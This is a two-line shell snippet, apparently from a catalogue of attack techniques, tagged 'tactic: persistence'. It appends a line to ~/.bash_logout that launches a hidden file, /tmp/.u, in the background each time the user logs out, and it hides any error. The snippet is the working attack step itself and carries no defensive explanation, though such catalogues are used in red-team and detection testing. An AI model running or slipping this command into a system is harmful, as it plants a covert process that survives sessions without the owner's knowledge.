# tactic: persistence
echo "/tmp/.u &" >> ~/.bash_logout; true
